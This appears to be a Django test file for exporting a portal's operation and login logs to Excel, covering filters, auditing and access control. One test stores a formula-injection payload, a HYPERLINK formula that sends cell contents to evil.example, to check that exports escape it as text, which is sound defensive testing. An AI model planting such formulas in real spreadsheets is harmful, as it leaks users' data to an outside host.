"""Exports of the log screens: an export job with progress (portal.ExportJob), the rows the
filters select and only those, formula-like text escaped, the export itself audited, and
the job's page and file the auditor's alone."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from audit.models import AuditEntry, client_address, record
from filings.models import Filing
from portal import logs
from portal.models import ExportJob
from tests.factories import (
    PASSWORD,
    AdminFactory,
    AuditorFactory,
    LeadUnitUserFactory,
    MunicipalStaffFactory,
    filing_in_state,
)

pytestmark = pytest.mark.django_db


def export(client, capture, url_name, **conditions):
    with capture(execute=True):
        response = client.post(reverse(url_name), conditions)
    assert response.status_code == 302, response.status_code
    job = ExportJob.objects.latest("pk")
    assert response.url == reverse("portal:export_detail", args=[job.pk])
    assert job.state == ExportJob.State.DONE, job.error
    download = client.get(reverse("portal:export_download", args=[job.pk]))
    assert download.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    return job, sheet


def values(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_the_operation_log_export_holds_the_filtered_rows(
    client, django_capture_on_commit_callbacks
):
    filing = filing_in_state(Filing.State.MUNICIPAL_REVIEW)
    staff = MunicipalStaffFactory(last_name="王", first_name="建国")
    with client_address("198.51.100.4"):
        record(
            subject=filing,
            action="return_for_revision",
            action_label="退回修改",
            actor=staff,
            source="municipal_review",
            target="returned",
            reason="请补充",
        )
    record(subject=None, action="other", action_label="别的操作", actor=staff)
    auditor = AuditorFactory()
    client.force_login(auditor)
    job, sheet = export(
        client,
        django_capture_on_commit_callbacks,
        "logs:operations_export",
        user="王建国",
        record_type="filings.filing",
    )
    rows = values(sheet)
    assert sheet.title == "操作日志"
    assert rows[0][:6] == ["时间", "操作人", "用户名", "角色", "操作", "结果"]
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["操作人"] == "王建国"
    assert row["角色"] == "市科技局工作人员"
    assert row["操作"] == "退回修改"
    assert row["记录类型"] == "备案申请" and row["记录编号"] == filing.pk
    assert row["记录"] == str(filing)
    assert (row["原状态"], row["新状态"]) == ("市级审核中", "退回修改")
    assert row["IP地址"] == "198.51.100.4"
    assert row["意见或理由"] == "请补充"
    # The file holds what the page shows for the same conditions.
    page = client.get(
        reverse("logs:operations"), {"user": "王建国", "record_type": "filings.filing"}
    )
    assert [r.entry.pk for r in page.context["rows"]] == [row["日志编号"]]
    assert job.params == {"user": "王建国", "record_type": "filings.filing"}
    assert job.total == job.done == 1


def test_the_export_is_audited_with_its_conditions(client, django_capture_on_commit_callbacks):
    record(subject=None, action="x", action_label="操作", actor=None)
    auditor = AuditorFactory()
    client.force_login(auditor)
    job, _sheet = export(
        client, django_capture_on_commit_callbacks, "logs:operations_export", since="2020-01-01"
    )
    entry = AuditEntry.objects.get(action="export")
    assert entry.actor == auditor and entry.actor_role == "auditor"
    assert entry.action_label == "导出操作日志"
    assert entry.subject == job
    assert entry.reason == "筛选条件：开始日期 2020-01-01"  # readable, not JSON
    # ...and it is itself in the log the auditor reads.
    page = client.get(reverse("logs:operations"), {"action": "导出操作日志"})
    assert [r.entry.pk for r in page.context["rows"]] == [entry.pk]


def test_the_login_log_export(client, django_capture_on_commit_callbacks):
    lead = LeadUnitUserFactory(username="carol")
    client.post(
        reverse("accounts:login"),
        {"username": "carol", "password": "wrong"},
        REMOTE_ADDR="203.0.113.5",
    )
    client.post(
        reverse("accounts:login"),
        {"username": "carol", "password": PASSWORD},
        REMOTE_ADDR="203.0.113.5",
    )
    record(subject=None, action="export", action_label="导出联盟名录", actor=lead)
    client.force_login(AuditorFactory())
    job, sheet = export(
        client, django_capture_on_commit_callbacks, "logs:logins_export", user="carol"
    )
    rows = values(sheet)
    assert sheet.title == "登录日志"
    assert rows[0] == ["时间", "用户", "事件", "结果", "IP地址", "说明", "日志编号"]
    events = sorted((r[2], r[3], r[4]) for r in rows[1:])
    assert events == [("登录", "成功", "203.0.113.5"), ("登录失败", "失败", "203.0.113.5")]
    assert all("carol" in r[1] for r in rows[1:])
    entry = AuditEntry.objects.get(action="export", actor_role="auditor")
    assert entry.action_label == "导出登录日志" and entry.subject == job


def test_formula_like_text_stays_text(client, django_capture_on_commit_callbacks):
    record(
        subject=None,
        action="x",
        action_label="公式测试",
        actor=None,
        reason='=HYPERLINK("http://evil.example/?"&A1,"click")',
    )
    client.force_login(AuditorFactory())
    _job, sheet = export(
        client, django_capture_on_commit_callbacks, "logs:operations_export", action="公式测试"
    )
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    cell = next(sheet.iter_rows(min_row=2, max_row=2))[header.index("意见或理由")]
    assert cell.value.startswith("=HYPERLINK")
    assert cell.data_type == "s" and cell.quotePrefix


def test_invalid_or_empty_conditions_export_nothing(client, django_capture_on_commit_callbacks):
    client.force_login(AuditorFactory())
    for conditions in ({"since": "2026-03-05", "until": "2026-03-01"}, {"role": "root"}):
        response = client.post(reverse("logs:operations_export"), conditions, follow=True)
        assert "筛选条件有误" in response.content.decode()
    response = client.post(reverse("logs:logins_export"), {"user": "nobody-at-all"}, follow=True)
    assert "没有符合筛选条件的记录" in response.content.decode()
    assert not ExportJob.objects.exists()
    assert not AuditEntry.objects.filter(action="export").exists()


def test_too_many_rows_are_refused_with_a_message(client, monkeypatch):
    monkeypatch.setattr(logs, "EXPORT_LIMIT", 2)
    for n in range(3):
        record(subject=None, action="x", action_label=f"操作{n}", actor=None)
    client.force_login(AuditorFactory())
    response = client.post(reverse("logs:operations_export"), {"action": "操作"}, follow=True)
    assert "一次最多导出 2 条" in response.content.decode()
    assert not ExportJob.objects.exists()


def test_the_job_page_and_file_are_the_auditors_alone(client, django_capture_on_commit_callbacks):
    record(subject=None, action="x", action_label="操作", actor=None)
    auditor = AuditorFactory()
    client.force_login(auditor)
    job, _sheet = export(client, django_capture_on_commit_callbacks, "logs:operations_export")
    page = client.get(reverse("portal:export_detail", args=[job.pk])).content.decode()
    assert "操作日志" in page and reverse("logs:operations") in page
    detail = reverse("portal:export_detail", args=[job.pk])
    download = reverse("portal:export_download", args=[job.pk])
    for other in (AuditorFactory(), AdminFactory(), MunicipalStaffFactory()):
        client.force_login(other)
        assert client.get(detail).status_code in (403, 404)
        assert client.get(download).status_code in (403, 404)
    # A job of a log kind is never opened by a business role, even if it were theirs.
    staff = MunicipalStaffFactory()
    ExportJob.objects.filter(pk=job.pk).update(user=staff)
    client.force_login(staff)
    assert client.get(detail).status_code == 403
    assert client.get(download).status_code == 403
    # ...and the auditor opens no business export.
    business = ExportJob.objects.create(user=auditor, kind=ExportJob.Kind.ALLIANCES)
    client.force_login(auditor)
    assert client.get(reverse("portal:export_detail", args=[business.pk])).status_code == 403
    # The business export form offers no log kind.
    from portal.forms import ExportForm

    assert not {k for k, _label in ExportForm().fields["kind"].choices} & set(ExportJob.LOG_KINDS)


def test_the_export_job_of_a_former_auditor_exports_nothing():
    """The task applies the auditor's scope when it runs: a user who is no longer the
    auditor by then gets an empty file."""
    from portal.exports import build_workbook

    record(subject=None, action="x", action_label="操作", actor=None)
    former = MunicipalStaffFactory()
    data = build_workbook(ExportJob.Kind.OPERATION_LOG, former, {})
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert len(rows) == 1  # the header only
    data = build_workbook(ExportJob.Kind.OPERATION_LOG, AuditorFactory(), {})
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert len(rows) == 2


def test_the_workbook_keeps_its_header_in_view_and_columns_readable():
    from portal.exports import build_workbook, column_width

    data = build_workbook(ExportJob.Kind.OPERATION_LOG, AuditorFactory(), {})
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    widths = [sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]]
    assert widths == [column_width(h) for h in header]
    assert min(widths) >= 14
    # A CJK title counts double: “意见或理由” (5 characters) needs 14 units.
    assert column_width("意见或理由") == 14 and column_width("操作人所属单位名称全称") == 26
